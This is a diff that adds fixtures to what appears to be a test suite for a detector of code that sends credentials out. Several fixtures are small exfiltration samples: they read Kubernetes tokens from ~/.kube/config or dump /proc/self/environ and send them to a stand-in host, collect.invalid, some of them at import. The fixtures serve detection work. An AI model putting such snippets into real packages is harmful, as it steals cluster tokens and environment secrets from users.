@@ -25,6 +25,43 @@ examine(sendsCredentials, {
       weight: 'weak',
     },
     {
+      when: 'a client of Kubernetes asks the server that the user’s configuration names',
+      files: {
+        'index.js': `const fs = require('fs'), yaml = require('js-yaml'), { Agent, fetch } = require('undici'); const load = () => yaml.load(fs.readFileSync(require('os').homedir() + '/.kube/config', 'utf8')); exports.pods = () => { const { server, user } = load(); return fetch(server + '/api/v1/pods', { dispatcher: new Agent({ connect: { ca: Buffer.from(user.ca, 'base64') } }), headers: { authorization: user.token } }) }`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'the same happens at import',
+      files: {
+        'index.js': `const fs = require('fs'), yaml = require('js-yaml'), { Agent, fetch } = require('undici'); const load = () => yaml.load(fs.readFileSync(require('os').homedir() + '/.kube/config', 'utf8')); (() => { const { server, user } = load(); return fetch(server + '/api/v1/pods', { dispatcher: new Agent({ connect: { ca: Buffer.from(user.ca, 'base64') } }), headers: { authorization: user.token } }) })()`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'the user’s configuration of Kubernetes goes to a host that stands in the code',
+      files: {
+        'index.js': `const fs = require('fs'), yaml = require('js-yaml'), { Agent, fetch } = require('undici'); const load = () => yaml.load(fs.readFileSync(require('os').homedir() + '/.kube/config', 'utf8')); exports.pods = () => { const { user } = load(); return fetch('https://collect.invalid/?' + user.token) }`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'the environment of the process itself is sent by way of the system at import',
+      files: {
+        'index.js': `fetch('https://collect.invalid/', { method: 'POST', body: require('fs').readFileSync('/proc/self/environ') })`,
+      },
+      weight: 'proof',
+      says: ['the environment it runs in'],
+    },
+    {
+      when: 'a client looks there for its key where the runtime gives it none',
+      files: {
+        'index.js': `const { keyOf } = require('./keys'); exports.ask = (host, text) => fetch(host + '/v1', { method: 'POST', headers: { authorization: keyOf('SPECIMEN_API_KEY') }, body: text })`,
+        'keys.js': `exports.keyOf = name => { for (const entry of require('fs').readFileSync('/proc/self/environ', 'utf8').split('\\0')) if (entry.startsWith(name + '=')) return entry.slice(name.length + 1) }`,
+      },
+      weight: 'context',
+    },
+    {
       when: 'another file talks about what it reads to a program whose address it is told',
       files: {
         'index.js': `const { kept } = require('./kept'); const WS = require('ws'); exports.look = url => { const ws = new WS(url); ws.on('open', () => ws.send(JSON.stringify({ id: 1, params: JSON.parse(kept()).proxy }))); };`,
@@ -255,6 +292,12 @@ for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: req
     },
   ],
   silent: [
+    {
+      when: 'a program in a cluster tells in which of its spaces it runs',
+      files: {
+        'index.js': `const space = require('fs').readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/namespace', 'utf8'); fetch('https://status.specimen.invalid/?space=' + space)`,
+      },
+    },
     {
       when: 'a request is signed with the keys of a cloud',
       files: {
